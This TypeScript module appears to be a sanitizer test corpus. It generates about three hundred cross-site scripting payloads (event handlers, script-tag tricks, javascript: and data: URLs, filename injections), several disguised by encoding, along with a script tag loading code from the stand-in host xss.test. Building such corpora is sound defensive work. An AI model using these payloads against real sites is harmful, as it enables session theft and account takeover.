/**
 * Ways to run a script on somebody's page, three hundred of them: known vectors, each as it stands and in disguises.
 * Whatever runs calls `xss()`, so that a browser can tell.
 */

/** What a payload wants to run. */
const call = 'xss()';

/** Elements whose attributes run by themselves. */
const handlers = [
  `<img src=x onerror=${call}>`,
  `<img src=x onerror="${call}">`,
  `<img src='x' onerror='${call}'>`,
  `<img/src=x/onerror=${call}>`,
  `<img src=x\nonerror\n=\n${call}>`,
  `<img src=/logo/BTC onload=${call}>`,
  `<image src=x onerror=${call}>`,
  `<svg onload=${call}>`,
  `<svg/onload=${call}>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><set onbegin=${call} attributeName=x>`,
  `<svg><a xlink:href="javascript:${call}"><text y=20>x</text></a></svg>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><script href="data:text/javascript,${call}"></script></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${call}>#x">`,
  `<svg><foreignObject><img src=x onerror=${call}></foreignObject></svg>`,
  `<svg><desc><template><img src=x onerror=${call}></template></desc></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
  `<math href="javascript:${call}">x</math>`,
  `<math><mi//xlink:href="data:x,<script>${call}</script>">`,
  `<body onload=${call}>`,
  `<body onpageshow=${call}>`,
  `<html onmouseover=${call}>`,
  `<input autofocus onfocus=${call}>`,
  `<select autofocus onfocus=${call}>`,
  `<textarea autofocus onfocus=${call}>`,
  `<button autofocus onfocus=${call}>x</button>`,
  `<button formaction=javascript:${call}>x</button>`,
  `<keygen autofocus onfocus=${call}>`,
  `<details open ontoggle=${call}>`,
  `<details open><summary ontoggle=${call}>x</summary></details>`,
  `<video src=x onerror=${call}>`,
  `<video><source onerror=${call}></video>`,
  `<audio src=x onerror=${call}>`,
  `<audio src onloadstart=${call}>`,
  `<marquee onstart=${call}>x</marquee>`,
  `<marquee loop=1 width=0 onfinish=${call}>x</marquee>`,
  `<object data="javascript:${call}">`,
  `<object data=x onerror=${call}>`,
  `<embed src="javascript:${call}">`,
  `<embed src=x onload=${call}>`,
  `<iframe src="javascript:${call}"></iframe>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<iframe onload=${call}></iframe>`,
  `<frameset onload=${call}><frame></frameset>`,
  `<form action="javascript:${call}"><input type=submit autofocus></form>`,
  `<isindex action="javascript:${call}" type=image>`,
  `<link rel=stylesheet href="javascript:${call}">`,
  `<link rel=import href="data:text/html,<script>${call}</script>">`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<meta http-equiv="refresh" content="0; url=data:text/html,<script>${call}</script>">`,
  `<base href="javascript:${call}//">`,
  `<table background="javascript:${call}"><tr><td>x</td></tr></table>`,
  `<div style="background:url(javascript:${call})">x</div>`,
  `<div style="width:expression(${call})">x</div>`,
  `<div style="animation-name:x" onanimationstart=${call}>x</div>`,
  `<p onmouseenter=${call} style="position:fixed;inset:0">x</p>`,
  `<p onpointerrawupdate=${call}>x</p>`,
  `<p tabindex=1 onfocus=${call} autofocus>x</p>`,
  `<p contenteditable onbeforeinput=${call}>x</p>`,
  `<h2 id=x onfocusin=${call} tabindex=0>x</h2>`,
  `<td onclick=${call}>x</td>`,
  `<style onload=${call}></style>`,
  `<style>@import "javascript:${call}";</style>`,
  `<style>*{background:url(javascript:${call})}</style>`,
];

/** Scripts, and what browsers once took for one. */
const scripts = [
  `<script>${call}</script>`,
  `<SCRIPT>${call}</SCRIPT>`,
  `<ScRiPt>${call}</sCrIpT>`,
  `<script >${call}</script >`,
  `<script/x>${call}</script>`,
  `<script\t>${call}</script>`,
  `<script\n>${call}\n</script>`,
  `<script type=module>${call}</script>`,
  `<script src="data:text/javascript,${call}"></script>`,
  `<script src=//xss.test/x.js></script>`,
  `<script>/*<b>*/${call}</script>`,
  `<script><!--\n${call}//--></script>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<<script>${call}//<</script>`,
  `<script>${call}`,
  `</script><script>${call}</script>`,
  `</title><script>${call}</script>`,
  `</textarea><script>${call}</script>`,
  `</style><script>${call}</script>`,
  `</noscript><script>${call}</script>`,
  `--><script>${call}</script>`,
  `]]><script>${call}</script>`,
  `<![CDATA[<script>${call}</script>]]>`,
  `<!--><script>${call}</script>-->`,
  `<!--[if gte IE 4]><script>${call}</script><![endif]-->`,
  `<?xml version="1.0"?><script>${call}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<template><script>${call}</script></template>`,
  `<xmp><script>${call}</script></xmp>`,
  `<plaintext><script>${call}</script>`,
  `<noembed><img src=x onerror=${call}></noembed>`,
  `<textarea><script>${call}</script></textarea>`,
  `<title><img src=x onerror=${call}></title>`,
  `<listing><img src=x onerror=${call}></listing>`,
  `"><script>${call}</script>`,
  `'><script>${call}</script>`,
  `" onmouseover="${call}" x="`,
  `' onfocus='${call}' autofocus='`,
  `javascript:${call}`,
  `\${${call}}`,
  `{{constructor.constructor('${call}')()}}`,
  `<%= ${call} %>`,
  `{"__proto__":{"innerHTML":"<img src=x onerror=${call}>"}}`,
  `<0><img src=x onerror=${call}></0>`,
];

/** Addresses that are code. */
const addresses = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  ` javascript:${call}`,
  `\tjavascript:${call}`,
  `java\nscript:${call}`,
  `java\tscript:${call}`,
  `\u0001javascript:${call}`,
  `\u00a0javascript:${call}`,
  `javascript&colon;${call}`,
  `javascript&#58;${call}`,
  `javascript&#x3a;${call}`,
  `&#106;avascript:${call}`,
  `&#x6A;avascript:${call}`,
  `java&#x0A;script:${call}`,
  `java&Tab;script:${call}`,
  `java&NewLine;script:${call}`,
  `javascript:/*--></title></style>*/${call}`,
  `javascript:%78%73%73()`,
  `javascript://%0a${call}`,
  `feed:javascript:${call}`,
  `view-source:javascript:${call}`,
  `vbscript:${call}`,
  `livescript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${call}>`,
  `data:application/javascript,${call}`,
  `blob:https://xss.test/${call}`,
  `filesystem:https://xss.test/${call}`,
  `//xss.test/x`,
  `/\\xss.test/x`,
  `\\\\xss.test\\x`,
  `/\t/xss.test/x`,
  `https:xss.test"onclick="${call}`,
  `" onclick="${call}`,
  `' onclick='${call}`,
  `#" onfocus=${call} autofocus="`,
];

const asLinks = addresses.flatMap((address) => [
  `<a href="${address}">x</a>`,
  `<a href='${address}' target=_blank>x</a>`,
]);

function escaped(payload: string): string {
  return payload.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;');
}

/** Disguises: escaped once and twice, by number, inside honest markup, split, in strange case. */
const disguises: ((payload: string) => string)[] = [
  escaped,
  (payload) => escaped(escaped(payload)),
  (payload) => payload.replaceAll('<', '&#60;').replaceAll('>', '&#x3e'),
  (payload) => `<p>words <b>${payload}</b></p>`,
  (payload) => `<a href="/"><i>${payload}`,
  (payload) => `<p title="${payload}">x</p>`,
  (payload) => `<<b></b>${payload.slice(1)}`,
  (payload) => payload.replace(/[a-z]/g, (letter, at: number) => (at % 2 === 0 ? letter.toUpperCase() : letter)),
];

const wanted = 300;
const plain = [...scripts, ...handlers, ...asLinks];
const disguised = plain.map((payload, at) => (disguises[at % disguises.length] ?? escaped)(payload));

/** Markup that must not run, wherever it is written. */
export const markupPayloads: readonly string[] = [...new Set([...plain, ...disguised])].slice(0, wanted);

/** Addresses that must not be followed. */
export const addressPayloads: readonly string[] = addresses;

/** Names of files that must not be taken for markup or for another place. */
export const fileNamePayloads: readonly string[] = [
  `"><img src=x onerror=${call}>.png`,
  `x.png" onerror="${call}`,
  `<script>${call}</script>.jpg`,
  `javascript:${call}//.png`,
  `//xss.test/x.png`,
  `/\\xss.test/x.png`,
  `https://xss.test/x.png`,
  `data:image/svg+xml,<svg onload=${call}>`,
  `/a b.png`,
  `/x.png\u0000.svg`,
  `/x'onerror='${call}`,
  '/x`onerror=`',
];
